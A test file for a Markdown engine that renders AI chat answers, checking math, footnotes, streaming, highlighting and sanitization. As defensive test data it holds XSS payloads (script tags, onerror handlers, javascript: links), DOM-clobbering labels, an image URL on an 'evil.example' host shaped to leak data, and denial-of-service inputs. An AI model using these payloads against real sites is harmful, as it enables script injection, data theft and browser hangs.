import { Lexer, Parser, type Token, type TokensList } from 'marked';
import { MAX_BLOCK_DEPTH, MAX_INLINE_DEPTH, MAX_QUOTE_CALLS, TANGLED_INLINE_BUDGET } from './bounded-lexer';
import { HIGHLIGHT_AT_ONCE_MAX_CHARS, HIGHLIGHT_MAX_CHARS, MarkdownEngine } from './markdown-engine';
import { INLINE_MATH_MAX_CHARS } from './math';

function html(renderer: MarkdownEngine, source: string): string {
  return renderer.render(source).map((b) => b.html).join('');
}

function dom(markup: string): HTMLElement {
  const el = document.createElement('div');
  el.innerHTML = markup;
  return el;
}

/** The result of `work` and how long it took, in ms. */
function timed<T>(work: () => T): [T, number] {
  const start = performance.now();
  const result = work();
  return [result, performance.now() - start];
}

/** How deeply elements matching `selector` nest inside each other. */
function nesting(el: HTMLElement, selector: string): number {
  let deepest = 0;
  for (const node of el.querySelectorAll(selector)) {
    let depth = 0;
    for (let at: Element | null = node; at && at !== el; at = at.parentElement) if (at.matches(selector)) depth++;
    deepest = Math.max(deepest, depth);
  }
  return deepest;
}

describe('MarkdownEngine', () => {
  let renderer: MarkdownEngine;

  beforeEach(() => {
    renderer = new MarkdownEngine();
  });

  it('renders Markdown blocks', () => {
    const el = dom(html(renderer, '# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n## Sub *part*\n\n###### Deep'));
    // Under the page's own headings (its h1 is the conversation's title), styled by their Markdown level.
    expect(el.querySelector('h1, h2')).toBeNull();
    expect(Array.from(el.querySelectorAll('h3, h4, h5, h6')).map((h) => [h.tagName, h.className, h.innerHTML]))
      .toEqual([['H3', 'md-h1', 'Title'], ['H4', 'md-h2', 'Sub <em>part</em>'], ['H6', 'md-h6', 'Deep']]);
    expect(el.querySelector('strong')?.textContent).toBe('bold');
    expect(el.querySelectorAll('li')).toHaveLength(2);
  });

  it('gives each block the direction of its own text (Arabic, Hebrew) and keeps code left to right', () => {
    const source = [
      '## عنوان', 'مرحبا بالعالم', 'English paragraph', '- عنصر أول\n- second item\n\n  שלום', '> ציטוט\n>\n> quote',
      '| اللغة | Year |\n|---|---|\n| بايثون | 1991 |', '```js\nconst x = 1;\n```', '1. فقرة\n\n   ```\n   code\n   ```',
    ].join('\n\n');
    const el = dom(html(renderer, source));
    for (const block of el.querySelectorAll('p, li, h3, h4, td, th')) {
      // Inside a list item, a block takes its: dir="auto" looks past descendants with a dir of their own.
      const expected = block.parentElement?.closest('li') ? null : 'auto';
      expect(block.getAttribute('dir'), block.outerHTML).toBe(expected);
    }
    expect(Array.from(el.querySelectorAll('[dir="auto"]')).map((e) => e.tagName))
      .toEqual(['H4', 'P', 'P', 'LI', 'LI', 'P', 'P', 'TH', 'TH', 'TD', 'TD', 'LI']);
    const code = Array.from(el.querySelectorAll('.code-block'));
    expect(code).toHaveLength(2);
    for (const block of code) expect(block.getAttribute('dir')).toBe('ltr');
    // The same in a streamed answer.
    const streamed = dom(renderer.streaming().update('مرحبا\n\n- عنصر').map((b) => b.html).join(''));
    expect(Array.from(streamed.querySelectorAll('[dir]')).map((e) => e.tagName)).toEqual(['P', 'LI']);
  });

  it('drops a heading with no text (an answer cut off after `## `), streamed or not', () => {
    expect(dom(html(renderer, 'Intro.\n\n## ')).querySelector('h4')).toBeNull();
    expect(dom(html(renderer, '#\n\nText')).querySelector('h3')).toBeNull();
    const streaming = renderer.streaming();
    expect(dom(streaming.update('Intro.\n\n## ').map((b) => b.html).join('')).querySelector('h4')).toBeNull();
    const blocks = streaming.update('Intro.\n\n## Title\n\nBody');
    expect(dom(blocks.map((b) => b.html).join('')).querySelector('h4')?.textContent).toBe('Title');
    expect(blocks).toEqual(renderer.render('Intro.\n\n## Title\n\nBody'));
  });

  it('renders math once KaTeX has arrived: $…$, $$…$$, \\(…\\) and \\[…\\]; prices and code stay text', async () => {
    renderer.noticeMath('The price is $5 and $10.');
    expect(renderer.mathVersion()).toBe(0);
    await renderer.whenMathReady();
    const el = dom(html(renderer, [
      'Euler: $e^{i\\pi} + 1 = 0$ and \\(a^2 + b^2 = c^2\\).',
      '',
      '\\[',
      '\\int_0^1 x\\,dx = \\frac{1}{2}',
      '\\]',
      '',
      '$$\\sqrt{2}$$',
      '',
      'It costs $5 and $10. In code: `\\(x\\)` and `$y^2$`.',
      '',
      'Escaped brackets stay text: see \\[1\\], arr\\[0\\] and \\(like this\\).',
    ].join('\n')));
    expect(el.textContent).toContain('see [1], arr[0] and (like this).');
    expect(el.querySelectorAll('.katex')).toHaveLength(4);
    expect(el.querySelectorAll('.katex-display')).toHaveLength(2);
    // MathML for screen readers, with the TeX it came from.
    expect(el.querySelector('math annotation')?.textContent).toBe('e^{i\\pi} + 1 = 0');
    expect(el.textContent).toContain('It costs $5 and $10.');
    expect(Array.from(el.querySelectorAll('code')).map((c) => c.textContent)).toEqual(['\\(x\\)', '$y^2$']);
    // Announced once, as the formula reads, not twice over nor as TeX.
    expect(renderer.plainText('So $x^2$ holds.')).toBe('So x2 holds.');
  });

  it('runs KaTeX without its trusted commands: no link, no style or class of the model\'s, a bad formula shown as such', async () => {
    await renderer.whenMathReady();
    const el = dom(html(renderer, 'a $\\href{javascript:alert(1)}{x}$ b $\\htmlStyle{position:fixed}{y}$ c $\\frac{1}{$ d'));
    expect(el.querySelector('a, [href]')).toBeNull();
    // The TeX is kept as text (the MathML annotation); no attribute carries what the model wrote.
    expect(Array.from(el.querySelectorAll('[style]')).map((e) => e.getAttribute('style')).join()).not.toMatch(/position|javascript/);
    expect(el.querySelectorAll('.katex-error').length + el.querySelectorAll('[style*="color"]').length).toBeGreaterThan(0);
  });

  it('typesets a streaming answer\'s formulas once their block is final (each draw rendered them all again), and survives a formula KaTeX cannot parse', async () => {
    await renderer.whenMathReady();
    const streaming = renderer.streaming();
    const open = dom(streaming.update('Intro.\n\nSo $x^2$ and $y^3$ and').map((b) => b.html).join(''));
    expect(open.querySelectorAll('.katex')).toHaveLength(0);
    expect(open.querySelector('.math-pending')?.textContent).toBe('x^2');
    const more = dom(streaming.update('Intro.\n\nSo $x^2$ and $y^3$ and more.\n\nNext').map((b) => b.html).join(''));
    expect(more.querySelectorAll('.katex')).toHaveLength(2);
    const done = dom(streaming.finish('Intro.\n\nSo $x^2$ and $y^3$ and more.\n\nNext $z_1$.').map((b) => b.html).join(''));
    expect(done.querySelectorAll('.katex')).toHaveLength(3);
    expect(done.querySelector('.math-pending')).toBeNull();
    // 3,000 nested braces overflow KaTeX's stack: the formula is shown as its text, the answer goes on. (On lines
    // of its own: inline, a formula this long is not looked for.)
    const deep = `Before\n\n$$\n${'{'.repeat(3000)}x${'}'.repeat(3000)}\n$$\n\nafter.`;
    const el = dom(html(renderer, deep));
    expect(el.querySelector('.katex-error')).not.toBeNull();
    expect(el.textContent).toContain('after.');
    expect(() => renderer.plainText(deep)).not.toThrow();
  });

  it('shows a formula whose explicit sizes are out of bounds (negative ones too) as its TeX; ordinary spacing still typesets', async () => {
    await renderer.whenMathReady();
    const hostile = [
      '\\raisebox{-500em}{x}', '\\kern{-45em}x', '\\mkern-900mu x', '\\hspace{-30cm}x', '\\hskip-20em x', '\\rule{1em}{500em}',
      '\\begin{matrix}a\\\\[300em]b\\end{matrix}', '\\def\\arraystretch{100}\\begin{matrix}a\\\\b\\end{matrix}',
      'a \\above 30em b', '\\def\\k{\\kern-50em}\\k x',
      // Each within bounds, together not: kerns that add up, raised boxes that stack, rows a macro repeats.
      `${'\\kern{-1em}'.repeat(40)}x`, `${'\\raisebox{-8em}{'.repeat(6)}x${'}'.repeat(6)}`,
      `\\def\\r{${'\\\\'.repeat(10)}}\\begin{matrix}${'\\r'.repeat(200)}\\end{matrix}`,
    ];
    for (const formula of hostile) {
      const el = dom(html(renderer, `Before $${formula}$ after.`));
      expect(el.querySelector('.katex'), formula).toBeNull();
      expect(el.querySelector('.katex-error')?.textContent, formula).toBe(formula);
      expect(el.textContent).toContain('after.');
    }
    const fine = dom(html(renderer, [
      'A $\\begin{pmatrix}1&0\\\\0&1\\end{pmatrix}$, $\\frac{a}{b}\\quad x\\!y\\,z$, $a\\kern{-0.1em}b$, $\\hspace{1cm}\\rule{0pt}{2ex}$,',
      'and $\\raisebox{0.5ex}{x}\\mathllap{/}\\smash{y}$ and $\\begin{aligned}a&=b\\\\[1ex]c&=d\\end{aligned}$.',
    ].join('\n')));
    expect(fine.querySelectorAll('.katex')).toHaveLength(6);
    expect(fine.querySelector('.katex-error')).toBeNull();
  });

  it('reads a long line of dollars that never close as text, and bounds an inline formula\'s length', async () => {
    await renderer.whenMathReady();
    const prices = dom(html(renderer, `${'$5 '.repeat(10_000)}\nand $x^2$, \\(y^2\\) and *z*.`));
    expect(prices.querySelectorAll('.katex')).toHaveLength(2);
    expect(prices.querySelector('em')?.textContent).toBe('z');
    expect(prices.textContent?.startsWith('$5 $5 $5')).toBe(true);
    // Formulas far into a long line (past where a rule stops looking and cuts the text) are still found, and
    // the text around the cuts is whole.
    const words = 'word '.repeat(400);
    const far = dom(html(renderer, `${words}$a^2$ ${words}\\(b^2\\) ${words}$$c^2$$ done *d*.`));
    expect(far.querySelectorAll('.katex')).toHaveLength(3);
    expect(far.textContent).toContain(`${words.trim()} `);
    expect(far.querySelector('em')?.textContent).toBe('d');
    // A formula longer than the bound is left as text.
    const long = `x^{${'a+'.repeat(INLINE_MATH_MAX_CHARS / 2)}a}`;
    for (const source of [`So $${long}$ end.`, `So \\(${long}\\) end.`]) {
      const el = dom(html(renderer, source));
      expect(el.querySelector('.katex')).toBeNull();
      expect(el.textContent).toContain(long);
    }
  });

  it('renders footnotes: numbered references, the notes at the end, sanitized, with no ids or # links', () => {
    const source = 'First[^a] and second[^note].\n\nMore[^a].\n\n[^a]: Note **A** <img src=x onerror=alert(1)>\n[^note]: [link](javascript:alert(1)) B';
    const el = dom(html(renderer, source));
    expect(Array.from(el.querySelectorAll('sup.footnote-ref button')).map((r) => r.textContent)).toEqual(['1', '2', '1']);
    const notes = el.querySelectorAll('.footnotes li');
    expect(Array.from(notes).map((n) => n.getAttribute('data-footnote'))).toEqual(['1', '2']);
    expect(notes[0].querySelector('strong')?.textContent).toBe('A');
    expect(notes[0].querySelector('button.footnote-back')?.getAttribute('data-footnote-back')).toBe('1');
    expect(notes[0].textContent).toContain('<img src=x onerror=alert(1)>');
    expect(el.querySelector('img, [onerror], a[href], [id], [name]')).toBeNull();
    expect(el.textContent).not.toContain('[^');
    expect(renderer.plainText(source)).not.toContain('↩');
  });

  it('never turns a footnote label into an id or name (DOM clobbering), and reads footnotes after a first block of math', async () => {
    const el = dom(html(renderer, 'See[^constructor] and[^location].\n\n[^constructor]: c\n[^location]: l'));
    expect(el.querySelectorAll('[id], [name]')).toHaveLength(0);
    expect(Array.from(el.querySelectorAll('.footnotes li')).map((n) => n.textContent?.trim().replace(/\s*↩.*$/, ''))).toEqual(['c', 'l']);
    await renderer.whenMathReady();
    const math = dom(html(renderer, '$$\nx^2\n$$\n\nSee[^1].\n\n[^1]: A note.'));
    expect(math.querySelector('.katex')).not.toBeNull();
    expect(math.querySelector('.footnotes li')?.textContent).toContain('A note.');
  });

  it('shows raw HTML from the model as inert text', () => {
    const el = dom(html(renderer, 'Hi <script>alert(1)</script>\n\n<img src=x onerror="alert(2)">\n\n<div onclick="x()">d</div>'));
    expect(el.querySelector('script, img, [onerror], [onclick]')).toBeNull();
    expect(el.textContent).toContain('<script>alert(1)</script>');
    expect(el.textContent).toContain('<img src=x onerror="alert(2)">');
  });

  it('drops javascript: and data: links but keeps their text', () => {
    const el = dom(html(renderer, '[click](javascript:alert(1)) [data](data:text/html,<b>x</b>) [tab](java\tscript:alert(1))'));
    expect(el.querySelector('a')).toBeNull();
    expect(el.textContent).toContain('click');
  });

  it('keeps what the sanitizer must not drop: a list\'s start, a column\'s alignment, the drawing of roots and arrows', async () => {
    const el = dom(html(renderer, '3. third\n4. fourth\n\n| Item | Price |\n|:--|--:|\n| tea | 2 |'));
    expect(el.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(Array.from(el.querySelectorAll('th, td')).map((c) => c.getAttribute('align'))).toEqual(['left', 'right', 'left', 'right']);
    await renderer.whenMathReady();
    const math = dom(html(renderer, '$$\\sqrt{2} \\quad \\overrightarrow{AB} \\quad \\widehat{xyz}$$'));
    const paths = Array.from(math.querySelectorAll('svg path'));
    expect(paths.length).toBeGreaterThan(0);
    expect(paths.every((p) => (p.getAttribute('d') ?? '').length > 10)).toBe(true);
    expect(Array.from(math.querySelectorAll('svg')).every((svg) => svg.getAttribute('viewBox') !== null || svg.getAttribute('width') !== null)).toBe(true);
  });

  it('keeps only http(s) and mailto links, whatever else the sanitizer allows in attributes', () => {
    const el = dom(html(renderer, '[tel](tel:123) [ftp](ftp://x.example/f) [rel](/api/v1/sessions) [mail](mailto:a@b.example) [web](https://a.example)'));
    expect(Array.from(el.querySelectorAll('a[href]')).map((a) => a.getAttribute('href'))).toEqual(['mailto:a@b.example', 'https://a.example']);
    expect(el.textContent).toContain('tel');
  });

  it('opens safe links in a new tab without an opener or referrer', () => {
    const link = dom(html(renderer, 'See [docs](https://example.com/a "Docs") or <https://example.org>.')).querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/a');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it('never renders a remote image: it becomes a link', () => {
    const el = dom(html(renderer, '![secret](https://evil.example/leak?q=data) ![local](data:image/png;base64,AAAA)'));
    expect(el.querySelector('img')).toBeNull();
    const link = el.querySelector('a.image-link');
    expect(link?.getAttribute('href')).toBe('https://evil.example/leak?q=data');
    expect(link?.textContent).toBe('[image: secret]');
    expect(el.querySelector('.image-blocked')?.textContent).toBe('[image: local]');
  });

  it('renders code blocks with a copy button and highlighting once loaded', async () => {
    const source = '```ts\nconst x: number = 1;\n```';
    const before = dom(html(renderer, source));
    expect(before.querySelector('button.copy-code')?.getAttribute('aria-label')).toBe('Copy code');
    expect(before.querySelector('pre code')?.textContent).toBe('const x: number = 1;');
    await renderer.whenHighlighterReady();
    const after = dom(html(renderer, source));
    expect(after.querySelector('code .hljs-keyword')?.textContent).toBe('const');
    expect(after.querySelector('.code-lang')?.textContent).toBe('ts');
  });

  it('escapes code in unknown languages and hostile language names', () => {
    const el = dom(html(renderer, '```"><script>x</script>\n<b>bold?</b>\n```'));
    expect(el.querySelector('script, b')).toBeNull();
    expect(el.querySelector('pre code')?.textContent).toBe('<b>bold?</b>');
  });
});

// Text a model (or a document it was made to repeat) can write to stop an answer from showing or to hold the main
// thread. Bounds on time are far above what the renderer takes (a few ms to a few tens of ms here) and far below
// what it took before (seconds to minutes, or a stack overflow).
describe('MarkdownEngine with hostile input', () => {
  let renderer: MarkdownEngine;

  beforeEach(() => {
    renderer = new MarkdownEngine();
  });

  afterEach(() => vi.restoreAllMocks());

  it('shows text nested thousands deep (marked overflowed its stack), with the nesting bounded', () => {
    const deep: Record<string, string> = {
      quotes: `${'>'.repeat(10_000)} end`,
      spacedQuotes: `${'> '.repeat(10_000)}end`,
      bullets: `${'- '.repeat(10_000)}end`,
      numbers: `${'1. '.repeat(7_000)}end`,
      quotedBullets: `${'> - '.repeat(5_000)}end`,
      // A quote's next line continues its innermost quote: marked read it again one level deeper each time.
      continuedQuotes: `${'> '.repeat(4_000)}a\n${'end\n'.repeat(1_000)}`,
      emphasis: `${'*'.repeat(5_000)}end${'*'.repeat(5_000)}`,
      spacedEmphasis: `${'*a '.repeat(700)}end${' a*'.repeat(700)}`,
      links: `${'['.repeat(3_000)}end${'](x)'.repeat(3_000)}`,
    };
    for (const [name, source] of Object.entries(deep)) {
      const [blocks, ms] = timed(() => renderer.render(source));
      const el = dom(blocks.map((b) => b.html).join(''));
      expect(el.textContent, name).toContain('end');
      expect(nesting(el, 'ul, ol'), name).toBeLessThanOrEqual(MAX_BLOCK_DEPTH + 1);
      expect(nesting(el, 'blockquote, ul, ol'), name).toBeLessThanOrEqual(MAX_QUOTE_CALLS + 1);
      expect(nesting(el, 'em, strong, a, span'), name).toBeLessThanOrEqual(MAX_INLINE_DEPTH + 1);
      expect(ms, name).toBeLessThan(2_000);
      // Streamed, and read out, the same.
      expect(renderer.streaming().finish(source).map((b) => b.html).join(''), name).toBe(blocks.map((b) => b.html).join(''));
      expect(renderer.plainText(source), name).toContain('end');
    }
    // Where the bounds cut in, every word is still shown, once. (marked splices the text of quotes it reads again.)
    const words: Record<string, string> = {
      decreasing: Array.from({ length: 40 }, (_, i) => `${'>'.repeat(40 - i)} w${i}`).join('\n'),
      alternating: Array.from({ length: 400 }, (_, i) => `${'>'.repeat(i % 2 ? 3 : 1)} w${i}`).join('\n'),
      lazy: `${'> '.repeat(40)}w0\nw1\nw2\n\nw3`,
      quotedItems: `${'> - '.repeat(40)}w0\nw1\n> w2\nw3`,
      items: `${'- '.repeat(40)}w0\nw1\n  w2\n\nw3`,
    };
    for (const [name, source] of Object.entries(words)) {
      const text = dom(html(renderer, source)).textContent ?? '';
      for (const word of source.match(/w\d+/g) ?? []) expect(text.match(new RegExp(`\\b${word}\\b`, 'g')), `${name} ${word}`).toHaveLength(1);
    }
    // Nesting an answer uses is kept.
    const el = dom(html(renderer, '> quote\n>\n> - item\n>   - sub *em **strong***\n>     > inner'));
    expect(nesting(el, 'blockquote, ul, ol')).toBe(4);
    expect(el.querySelector('blockquote ul ul blockquote')?.textContent?.trim()).toBe('inner');
    expect(el.querySelector('em strong')?.textContent).toBe('strong');
  });

  it('shows an answer marked cannot read, or a block it cannot render, as escaped text', () => {
    vi.spyOn(Lexer.prototype, 'blockTokens').mockImplementation(() => {
      throw new RangeError('Maximum call stack size exceeded');
    });
    const el = dom(html(renderer, 'First *line*\nsecond <img src=x onerror=alert(1)>\n\nNext paragraph.'));
    expect(Array.from(el.querySelectorAll('p')).map((p) => p.innerHTML)).toEqual([
      'First *line*<br>second &lt;img src=x onerror=alert(1)&gt;', 'Next paragraph.',
    ]);
    expect(el.querySelector('img, em')).toBeNull();
    const streamed = renderer.streaming();
    expect(streamed.update('One\n\nTwo').map((b) => dom(b.html).querySelector('p')?.textContent)).toEqual(['One', 'Two']);
    vi.restoreAllMocks();

    // Failing inside a quote, after the footnotes rule has started on the answer: the next answer still has its notes.
    const blockTokens = Lexer.prototype.blockTokens;
    vi.spyOn(Lexer.prototype, 'blockTokens').mockImplementation(function (this: Lexer, src: string, tokens?: TokensList): TokensList {
      if (src.startsWith('BOOM')) throw new RangeError('Maximum call stack size exceeded');
      return blockTokens.call(this, src, tokens);
    });
    expect(dom(html(renderer, 'Intro.\n\n> BOOM')).textContent).toContain('> BOOM');
    vi.restoreAllMocks();
    expect(dom(html(renderer, 'Claim[^1].\n\n[^1]: The note.')).querySelector('.footnotes li')?.textContent).toContain('The note.');

    // One block fails to render (a renderer, highlighting or math throwing): it alone is shown as text.
    const parse = Parser.prototype.parse;
    vi.spyOn(Parser.prototype, 'parse').mockImplementation(function (this: Parser, tokens: Token[], top?: boolean) {
      if (tokens.some((t) => t.type === 'table')) throw new Error('renderer bug');
      return parse.call(this, tokens, top);
    });
    const blocks = dom(html(renderer, 'Intro *em*.\n\n| a | <b>b</b> |\n|---|---|\n| 1 | 2 |\n\nOutro.'));
    expect(blocks.querySelector('em')?.textContent).toBe('em');
    expect(blocks.querySelector('table, b')).toBeNull();
    expect(blocks.textContent).toContain('| a | <b>b</b> |');
    expect(blocks.textContent).toContain('Outro.');
  });

  it('shows inline text tangled with marks that never close as plain text, in bounded time', () => {
    const n = 20_000;
    const tangled: Record<string, string> = {
      brackets: '['.repeat(n), emphasis: '*a'.repeat(n / 2), underscores: '_a'.repeat(n / 2), strong: '**a'.repeat(n / 3),
      strikes: '~a'.repeat(n / 2), code: '`a'.repeat(n / 2), links: '[a]('.repeat(n / 4), emptyLinks: '[]('.repeat(n / 3),
      angles: '<'.repeat(n), tags: '<a'.repeat(n / 2), backslashes: '\\'.repeat(n), notes: '[^'.repeat(n / 2),
      nested: `${'*a '.repeat(n / 6)}b${' a*'.repeat(n / 6)}`, comments: `x ${'<!--'.repeat(n / 4)}`, titles: '[a](x (y z '.repeat(n / 11),
    };
    for (const [name, source] of Object.entries(tangled)) {
      const [blocks, ms] = timed(() => renderer.render(source));
      expect(ms, name).toBeLessThan(500);
      expect(blocks, name).toHaveLength(1);
      expect(dom(blocks[0].html).querySelector('p')?.textContent, name).toBe(source);
    }
    // Runs of one mark are read by marked's block rules (a thematic break, a code fence): only the time matters.
    for (const mark of ['_', '*', '~', '`', '-', '#', '|']) {
      const [, ms] = timed(() => renderer.render(mark.repeat(n)));
      expect(ms, mark).toBeLessThan(500);
    }
  });

  it('keeps the formatting of long text whose marks stay within the budget', () => {
    // 4,800 characters, 640 marks: about 3 million, under TANGLED_INLINE_BUDGET (the marks are counted).
    const sentence = (i: number): string => `Word *em${i}* and \`code${i}\` with [link](https://a.example/${i}) and _u${i}_ done.`;
    const paragraph = Array.from({ length: 64 }, (_, i) => sentence(i)).join(' ');
    expect(paragraph.length ** 2).toBeGreaterThan(TANGLED_INLINE_BUDGET);
    const el = dom(html(renderer, paragraph));
    expect(el.querySelectorAll('em')).toHaveLength(128);
    expect(el.querySelectorAll('code')).toHaveLength(64);
    expect(el.querySelectorAll('a[href^="https://a.example/"]')).toHaveLength(64);
    // 20,000 characters of prose with 1,000 marks: formatted too.
    const prose = Array.from({ length: 250 }, (_, i) => `Some plain words here and there, item *${i}* of many, more words`).join(' ');
    expect(dom(html(renderer, prose)).querySelectorAll('em')).toHaveLength(250);
  });

  it('reads links in time linear in the text (marked\'s link rule was cubic)', () => {
    // Under TANGLED_INLINE_BUDGET whatever their marks: marked's own rules read them.
    for (const unit of ['[a](', '[](', '[a](x (']) {
      const source = unit.repeat(Math.floor(4_400 / unit.length));
      expect(source.length ** 2).toBeLessThan(TANGLED_INLINE_BUDGET);
      const [blocks, ms] = timed(() => renderer.render(source));
      expect(ms, unit).toBeLessThan(500);
      expect(dom(blocks[0].html).querySelector('p')?.textContent, unit).toBe(source);
    }
    const [opened, ms] = timed(() => renderer.render(`[a](${'('.repeat(4_000)}`));
    expect(ms).toBeLessThan(500);
    expect(dom(opened[0].html).querySelector('p')?.textContent).toBe(`[a](${'('.repeat(4_000)}`);
    // Links as before: a title after white space, parentheses in the destination, <…> destinations, empty ones.
    const el = dom(html(renderer, '[a](https://x.example/a "T") [b](https://x.example/b_(c)) [c](<https://x.example/c d>) [d]() [e](https://x.example/e\n"T2")'));
    expect(Array.from(el.querySelectorAll('a')).map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('title')])).toEqual([
      ['a', 'https://x.example/a', 'T'], ['b', 'https://x.example/b_(c)', null], ['c', 'https://x.example/c d', null],
      ['e', 'https://x.example/e', 'T2'],
    ]);
    expect(el.textContent).toContain('d');
  });

  it('decides whether to load math in time linear in the text', () => {
    const load = vi.spyOn(renderer, 'whenMathReady').mockResolvedValue(undefined);
    for (const source of [`$${'^'.repeat(64_000)}`, `$${'a^'.repeat(32_000)}`, `$${' x_'.repeat(20_000)}\nand $5.`]) {
      const [, ms] = timed(() => renderer.noticeMath(source));
      expect(ms).toBeLessThan(200);
    }
    expect(load).not.toHaveBeenCalled();
    renderer.noticeMath('so $x_1$ holds');
    expect(load).toHaveBeenCalledTimes(1);
  });
});

describe('StreamingMarkdown', () => {
  let renderer: MarkdownEngine;

  beforeEach(() => {
    renderer = new MarkdownEngine();
  });

  const answer = '# Plan\n\nFirst paragraph with **bold**.\n\n- a\n- b\n\n```js\nlet x = 1;\n```\n\nLast words.';

  it('ends with the same blocks as rendering the whole message', () => {
    const streaming = renderer.streaming();
    let blocks = streaming.update('');
    for (let i = 1; i <= answer.length; i += 3) blocks = streaming.update(answer.slice(0, i));
    blocks = streaming.update(answer);
    expect(blocks).toEqual(renderer.render(answer));
  });

  it('re-parses only the open last block as tokens arrive', () => {
    const streaming = renderer.streaming();
    const lex = vi.spyOn(renderer, 'lex');
    streaming.update('First paragraph.\n\nSecond paragraph, still');
    streaming.update('First paragraph.\n\nSecond paragraph, still growing');
    expect(lex.mock.calls.at(-1)?.[0]).toBe('Second paragraph, still growing');
  });

  it('keeps the frozen blocks identical while the last one grows', () => {
    const streaming = renderer.streaming();
    const first = streaming.update('Intro.\n\nMore');
    const second = streaming.update('Intro.\n\nMore text');
    expect(second[0]).toBe(first[0]);
    expect(second[1]?.html).toContain('More text');
  });

  it('finishes with the frozen blocks as they are, and falls back to the full render for link definitions', () => {
    const streaming = renderer.streaming();
    const during = streaming.update(answer);
    const done = streaming.finish(answer);
    expect(done).toBe(during);
    expect(renderer.render(answer)).toBe(done);
    const withDef = 'See [docs][d].\n\n[d]: https://example.com/docs\n\nEnd.';
    const other = renderer.streaming();
    for (let i = 1; i <= withDef.length; i += 5) other.update(withDef.slice(0, i));
    const final = other.finish(withDef);
    expect(dom(final.map((b) => b.html).join('')).querySelector('a')?.getAttribute('href')).toBe('https://example.com/docs');
  });

  it('shows the marks the open block has not closed yet as closed (bold, italics, code, a half-written link), never the blocks before it', () => {
    const streaming = renderer.streaming();
    const shown = (source: string): HTMLElement => dom(streaming.update(source).map((b) => b.html).join(''));
    let view = shown('**Offline demo mode: no language');
    expect(view.querySelector('strong')?.textContent).toBe('Offline demo mode: no language');
    expect(view.textContent).not.toContain('*');
    view = shown('**Offline demo mode: no language model.** Try *this');
    expect(view.querySelector('em')?.textContent).toBe('this');
    view = shown('Run `npm t');
    expect(view.querySelector('code')?.textContent).toBe('npm t');
    view = shown('See [the docs](https://exa');
    expect(view.querySelector('a')).toBeNull();
    expect(view.textContent?.trim()).toBe('See the docs');
    // A literal star in an earlier, final block is not "closed" by the open one's.
    view = shown('Compute 2 * 3.\n\nThen **more');
    expect(view.querySelector('p')?.textContent).toBe('Compute 2 * 3.');
    expect(view.querySelector('strong')?.textContent).toBe('more');
    // An open code block is code: nothing is added to it.
    view = shown('```js\nconst a = `x **');
    expect(view.querySelector('code')?.textContent).toBe('const a = `x **');
  });

  it('ends a finished answer as written, and one cut short (stopped, failed) with its open marks closed', () => {
    const cut = '**Offline demo mode: no language';
    const whole = renderer.streaming();
    whole.update(cut);
    const done = dom(whole.finish(cut).map((b) => b.html).join(''));
    expect(done.textContent).toBe(renderer.render(cut).map((b) => dom(b.html).textContent).join(''));
    expect(done.textContent).toContain('**');
    const stopped = renderer.streaming();
    stopped.update(cut);
    expect(dom(stopped.finish(cut, true).map((b) => b.html).join('')).querySelector('strong')?.textContent).toBe('Offline demo mode: no language');
    // From history (never streamed here), and not kept as the source's own rendering.
    expect(dom(renderer.streaming().finish('Intro.\n\n_Half', true).map((b) => b.html).join('')).querySelector('em')?.textContent).toBe('Half');
    expect(dom(renderer.render('Intro.\n\n_Half').map((b) => b.html).join('')).querySelector('em')).toBeNull();
  });

  it('highlights blocks rendered before highlight.js arrived one per task', async () => {
    const blocks = renderer.render('```ts\nconst a = 1;\n```\n\n```ts\nconst b = 2;\n```');
    await renderer.whenHighlighterReady();
    const done = vi.fn();
    for (const block of blocks) renderer.queueHighlight(block, done);
    await new Promise((resolve) => setTimeout(resolve, 0));
    expect(done).toHaveBeenCalledTimes(1);
    await vi.waitFor(() => expect(done).toHaveBeenCalledTimes(2));
    for (const block of blocks) expect(dom(renderer.current(block).html).querySelector('.hljs-keyword')).not.toBeNull();
    expect(renderer.current(blocks[0]).key).toBe('b0');
  });

  it('renders long code plain and queues it for highlighting, streamed (each draw renders the open block again) or not; short code highlighted', async () => {
    await renderer.whenHighlighterReady();
    const line = 'const value = 1;\n';
    const long = '```ts\n' + line.repeat(Math.ceil(HIGHLIGHT_AT_ONCE_MAX_CHARS / line.length) + 1);
    const streaming = renderer.streaming();
    const short = streaming.update('```ts\nconst a = 1;\n');
    expect(dom(short[0].html).querySelector('.hljs-keyword')).not.toBeNull();
    const open = streaming.update(long);
    expect(dom(open[0].html).querySelector('.hljs-keyword')).toBeNull();
    expect(dom(open[0].html).querySelector('pre code')?.textContent).toBe(line.repeat(Math.ceil(HIGHLIGHT_AT_ONCE_MAX_CHARS / line.length) + 1).trimEnd());
    // Final (closed and followed by more): still plain when rendered, then highlighted in the background.
    const blocks = streaming.update(long + '```\n\nAfter the code.');
    expect(dom(blocks[0].html).querySelector('.hljs-keyword')).toBeNull();
    const done = vi.fn();
    renderer.queueHighlight(blocks[0], done);
    renderer.queueHighlight(blocks[1], done);
    await vi.waitFor(() => expect(done).toHaveBeenCalledTimes(1));
    expect(dom(renderer.current(blocks[0]).html).querySelector('.hljs-keyword')).not.toBeNull();
    expect(renderer.current(blocks[1])).toBe(blocks[1]);
    // History too: plain at first (opening a chat must not highlight all of its code in one task), then queued.
    const [history] = renderer.render(long + '```\n\nOpened later.');
    expect(dom(history.html).querySelector('.hljs-keyword')).toBeNull();
    renderer.queueHighlight(history, done);
    await vi.waitFor(() => expect(done).toHaveBeenCalledTimes(2));
    expect(dom(renderer.current(history).html).querySelector('.hljs-keyword')).not.toBeNull();
    // Short code in history is highlighted at once.
    expect(dom(html(renderer, '```ts\nconst a = 1;\n```')).querySelector('.hljs-keyword')).not.toBeNull();
  });

  it('never highlights code over the limit, streamed or not, and shows it escaped', async () => {
    await renderer.whenHighlighterReady();
    const huge = '```ts\n' + 'const x = "<b>";\n'.repeat(Math.ceil(HIGHLIGHT_MAX_CHARS / 17) + 1) + '```';
    const el = dom(html(renderer, huge));
    expect(el.querySelector('.hljs-keyword, b')).toBeNull();
    expect(el.querySelector('pre code')?.textContent?.startsWith('const x = "<b>";')).toBe(true);
    const [block] = renderer.streaming().finish(huge);
    const done = vi.fn();
    renderer.queueHighlight(block, done);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(done).not.toHaveBeenCalled();
  });

